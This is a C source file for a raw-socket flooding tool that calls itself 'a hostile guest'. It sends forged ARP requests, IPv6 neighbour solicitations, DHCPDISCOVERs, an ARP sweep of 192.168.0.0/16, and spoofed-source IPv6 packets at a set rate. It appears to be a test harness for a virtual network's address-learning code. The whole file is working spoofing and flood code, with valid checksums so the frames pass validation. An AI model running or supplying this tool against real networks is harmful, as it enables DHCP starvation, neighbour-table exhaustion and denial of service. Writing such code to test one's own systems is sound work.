/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * A hostile guest: sends COUNT frames with forged sources, each with another MAC address and another IP address.
 *
 *   flood INTERFACE arp|ns|dhcp|arp-own|ns-own|scan|data6 COUNT RATE
 *
 * RATE is in frames per second; 0 means no limit. With -own the frames have the MAC address of the interface, and only
 * the IP addresses are forged. Lengths and checksums are correct, so that the frames pass validation and reach learning.
 * scan: 192.168.157.43 asks for each address of 192.168.0.0/16. data6: packets for the router from 10,000 sources of its network,
 * without a next header (RFC 8200, 4.7), so that it answers none of them.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define FRAME_MAX 400
#define BATCH     32

static uint16_t checksum(const uint8_t *bytes, size_t len, uint32_t sum)
{
	for (; len > 1; bytes += 2, len -= 2)
		sum += (uint32_t)bytes[0] << 8 | bytes[1];
	if (len)
		sum += (uint32_t)bytes[0] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void put16(uint8_t *bytes, uint32_t value)
{
	bytes[0] = (uint8_t)(value >> 8);
	bytes[1] = (uint8_t)value;
}

static size_t ether(uint8_t *bytes, const char *dst, const uint8_t *src, uint16_t type)
{
	memcpy(bytes, dst, 6);
	memcpy(bytes + 6, src, 6);
	put16(bytes + 12, type);
	return 14;
}

/* An ARP request for 192.168.157.20 from 10.x.y.z. */
static size_t make_arp(uint8_t *bytes, const uint8_t *mac, uint32_t number)
{
	size_t at = ether(bytes, "\xff\xff\xff\xff\xff\xff", mac, ETHERTYPE_ARP);
	const uint8_t head[8] = {0, 1, 8, 0, 6, 4, 0, 1}, target[4] = {192, 168, 157, 20};
	const uint8_t source[4] = {10, (uint8_t)(number >> 16), (uint8_t)(number >> 8), (uint8_t)number};

	memcpy(bytes + at, head, 8);
	memcpy(bytes + at + 8, mac, 6);
	memcpy(bytes + at + 14, source, 4);
	memset(bytes + at + 18, 0, 6);
	memcpy(bytes + at + 24, target, 4);
	memset(bytes + at + 28, 0, 18);
	return 60;
}

/* A neighbour solicitation for the router from 2001:db8:157::f:xxxx:xxxx. */
static size_t make_ns(uint8_t *bytes, const uint8_t *mac, uint32_t number)
{
	size_t at = ether(bytes, "\x33\x33\xff\x00\x00\x20", mac, ETHERTYPE_IPV6);
	uint8_t *ip = bytes + at, *icmp = ip + 40;

	memset(ip, 0, 72);
	ip[0] = 0x60;
	put16(ip + 4, 32);
	ip[6] = 58;
	ip[7] = 255;
	inet_pton(AF_INET6, "2001:db8:157::f:0:0", ip + 8);
	put16(ip + 20, number >> 16);
	put16(ip + 22, number & 0xffff);
	inet_pton(AF_INET6, "ff02::1:ff00:20", ip + 24);
	icmp[0] = 135;
	inet_pton(AF_INET6, "2001:db8:157::20", icmp + 8);
	icmp[24] = 1;
	icmp[25] = 1;
	memcpy(icmp + 26, mac, 6);
	put16(icmp + 2, checksum(ip + 8, 64, 32 + 58));
	return at + 72;
}

/* A DHCPDISCOVER with its own xid and chaddr. */
static size_t make_dhcp(uint8_t *bytes, const uint8_t *mac, uint32_t number)
{
	size_t at = ether(bytes, "\xff\xff\xff\xff\xff\xff", mac, ETHERTYPE_IP);
	uint8_t *ip = bytes + at, *udp = ip + 20, *bootp = udp + 8;
	const uint8_t options[] = {0x63, 0x82, 0x53, 0x63, 53, 1, 1, 255};
	const size_t len = 20 + 8 + 240 + 60;

	memset(ip, 0, len);
	ip[0] = 0x45;
	put16(ip + 2, (uint32_t)len);
	ip[8] = 64;
	ip[9] = 17;
	memset(ip + 16, 255, 4);
	put16(ip + 10, checksum(ip, 20, 0));
	put16(udp, 68);
	put16(udp + 2, 67);
	put16(udp + 4, (uint32_t)len - 20); /* no checksum: 0 */
	bootp[0] = bootp[1] = 1;
	bootp[2] = 6;
	put16(bootp + 4, number >> 16);
	put16(bootp + 6, number & 0xffff);
	memcpy(bootp + 28, mac, 6);
	memcpy(bootp + 236, options, sizeof(options));
	return at + len;
}

static size_t make_scan(uint8_t *bytes, const uint8_t *mac, uint32_t number)
{
	const uint8_t sender[4] = {192, 168, 157, 43}, target[4] = {192, 168, (uint8_t)(number >> 8), (uint8_t)number};
	size_t len = make_arp(bytes, mac, number);

	memcpy(bytes + 28, sender, 4);
	memcpy(bytes + 38, target, 4);
	return len;
}

static size_t make_data6(uint8_t *bytes, const uint8_t *mac, uint32_t number)
{
	static const uint8_t network[8] = {0x20, 0x01, 0x0d, 0xb8, 0x01, 0x57};
	size_t at = ether(bytes, "\x00\x60\xdd\x00\x00\x20", mac, ETHERTYPE_IPV6);
	uint8_t *ip = bytes + at;

	memset(ip, 0, 40);
	ip[0] = 0x60;
	ip[6] = 59;
	ip[7] = 64;
	memcpy(ip + 8, network, sizeof(network));
	ip[20] = 0xab; /* no address of a guest */
	put16(ip + 22, number % 10000);
	memcpy(ip + 24, network, sizeof(network));
	ip[39] = 0x20;
	return at + 40;
}

static size_t make_frame(uint8_t *bytes, const char *kind, const uint8_t *own, uint32_t number)
{
	const uint8_t forged[6] = {
		0x02, 0xf0, (uint8_t)(number >> 24), (uint8_t)(number >> 16), (uint8_t)(number >> 8), (uint8_t)number};
	const uint8_t *mac = strstr(kind, "-own") ? own : forged;

	if (!strcmp(kind, "scan"))
		return make_scan(bytes, own, number);
	if (!strcmp(kind, "data6"))
		return make_data6(bytes, own, number);
	if (!strncmp(kind, "arp", 3))
		return make_arp(bytes, mac, number);
	return strncmp(kind, "ns", 2) ? make_dhcp(bytes, mac, number) : make_ns(bytes, mac, number);
}

static void wait_for_rate(const struct timespec *start, uint32_t sent, uint32_t rate)
{
	struct timespec ts = *start;
	uint64_t ns = (uint64_t)ts.tv_nsec + (uint64_t)sent * 1000000000u / rate;

	ts.tv_sec += (time_t)(ns / 1000000000u);
	ts.tv_nsec = (long)(ns % 1000000000u);
	clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL);
}

static int flood(int sock, const char *kind, const uint8_t *own, uint32_t count, uint32_t rate)
{
	static uint8_t frames[BATCH][FRAME_MAX];
	struct mmsghdr messages[BATCH] = {0};
	struct iovec iov[BATCH];
	struct timespec start;

	clock_gettime(CLOCK_MONOTONIC, &start);
	for (uint32_t sent = 0; sent < count;) {
		uint32_t batch = count - sent < BATCH ? count - sent : BATCH;
		int ret;

		for (uint32_t i = 0; i < batch; i++) {
			iov[i].iov_base = frames[i];
			iov[i].iov_len = make_frame(frames[i], kind, own, sent + i);
			messages[i].msg_hdr.msg_iov = &iov[i];
			messages[i].msg_hdr.msg_iovlen = 1;
		}
		ret = sendmmsg(sock, messages, batch, 0);
		if (ret < 0 && errno != ENOBUFS && errno != EAGAIN) {
			perror("flood");
			return 1;
		}
		if (ret > 0)
			sent += (uint32_t)ret;
		if (rate)
			wait_for_rate(&start, sent, rate);
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct ifreq ifr = {0};
	struct sockaddr_ll to = {.sll_family = AF_PACKET};
	int sock = socket(AF_PACKET, SOCK_RAW, 0);

	if (argc != 5 || sock < 0) {
		fprintf(stderr, "usage (as root): flood INTERFACE arp|ns|dhcp|arp-own|ns-own|scan|data6 COUNT RATE\n");
		return 2;
	}
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", argv[1]);
	to.sll_ifindex = (int)if_nametoindex(argv[1]);
	if (ioctl(sock, SIOCGIFHWADDR, &ifr) < 0 || bind(sock, (struct sockaddr *)&to, sizeof(to)) < 0) {
		perror(argv[1]);
		return 1;
	}
	return flood(sock, argv[2], (const uint8_t *)ifr.ifr_hwaddr.sa_data, (uint32_t)strtoul(argv[3], NULL, 10),
		     (uint32_t)strtoul(argv[4], NULL, 10));
}
